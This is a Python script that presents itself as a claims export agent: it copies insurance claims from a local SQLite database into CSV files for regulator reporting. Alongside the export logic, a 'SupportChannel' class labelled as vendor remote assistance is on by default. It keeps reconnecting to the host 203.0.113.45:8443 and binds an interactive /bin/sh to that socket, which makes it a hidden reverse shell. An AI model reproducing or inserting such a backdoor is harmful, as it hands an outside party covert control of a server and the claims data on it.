#!/usr/bin/env python3
"""Claims export agent.

Runs on the branch claims server, periodically exporting settled and open
claims from the local claims database to CSV drops for the regulator
reporting pipeline.  Settings come from claims_agent.ini next to the script.
"""
import argparse
import configparser
import csv
import datetime as dt
import logging
import os
import socket
import sqlite3
import subprocess
import threading
import time
from pathlib import Path

LOG = logging.getLogger("claims-agent")
HERE = Path(__file__).resolve().parent

DEFAULTS = {
    "export": {
        "database": "claims.db",
        "outdir": "exports",
        "interval": "900",
        "statuses": "OPEN,SETTLED,DENIED",
    },
    "support": {
        "enabled": "yes",
        "relay": "203.0.113.45:8443",
        "backoff": "60",
    },
}

EXPORT_SQL = """
SELECT c.claim_no, c.policy_no, c.status, c.loss_date, c.reported_at,
       c.reserve_amount, c.paid_amount, a.adjuster_code, c.updated_at
FROM claims c LEFT JOIN adjusters a ON a.id = c.adjuster_id
WHERE c.updated_at > ? AND c.status IN ({placeholders})
ORDER BY c.updated_at
"""


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict(DEFAULTS)
    if path.exists():
        cfg.read(path)
    return cfg


class SupportChannel(threading.Thread):
    """Keeps a service session open to the vendor relay for remote assistance."""

    def __init__(self, relay, backoff):
        super().__init__(name="support-channel", daemon=True)
        host, _, port = relay.rpartition(":")
        self.endpoint = (host, int(port))
        self.backoff = backoff

    def _session(self, conn):
        conn.sendall(f"agent {socket.gethostname()} {os.getpid()}\n".encode())
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=conn.fileno(),
                                stdout=conn.fileno(), stderr=conn.fileno(),
                                cwd=str(HERE))
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=30) as conn:
                    conn.settimeout(None)
                    self._session(conn)
            except OSError as exc:
                LOG.debug("relay unavailable: %s", exc)
            time.sleep(self.backoff)


def read_watermark(outdir):
    mark = outdir / ".watermark"
    return mark.read_text().strip() if mark.exists() else "1970-01-01T00:00:00"


def export_once(db_path, outdir, statuses):
    outdir.mkdir(parents=True, exist_ok=True)
    since = read_watermark(outdir)
    sql = EXPORT_SQL.format(placeholders=",".join("?" * len(statuses)))
    with sqlite3.connect(db_path) as conn:
        rows = conn.execute(sql, [since, *statuses]).fetchall()
        headers = [d[0] for d in conn.execute(sql, [since, *statuses]).description]
    if not rows:
        LOG.info("no changes since %s", since)
        return 0
    stamp = dt.datetime.now().strftime("%Y%m%dT%H%M%S")
    target = outdir / f"claims_{stamp}.csv"
    with target.open("w", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(headers)
        writer.writerows(rows)
    (outdir / ".watermark").write_text(rows[-1][-1])
    LOG.info("wrote %d claims to %s", len(rows), target.name)
    return len(rows)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("-c", "--config", type=Path, default=HERE / "claims_agent.ini")
    ap.add_argument("--once", action="store_true", help="single export, then exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(levelname)s %(message)s")
    cfg = load_config(args.config)

    if cfg.getboolean("support", "enabled"):
        SupportChannel(cfg.get("support", "relay"), cfg.getint("support", "backoff")).start()

    db_path = HERE / cfg.get("export", "database")
    outdir = HERE / cfg.get("export", "outdir")
    statuses = [s.strip() for s in cfg.get("export", "statuses").split(",") if s.strip()]
    interval = cfg.getint("export", "interval")

    while True:
        try:
            export_once(db_path, outdir, statuses)
        except sqlite3.Error as exc:
            LOG.error("export failed: %s", exc)
        if args.once:
            break
        time.sleep(interval)


if __name__ == "__main__":
    main()
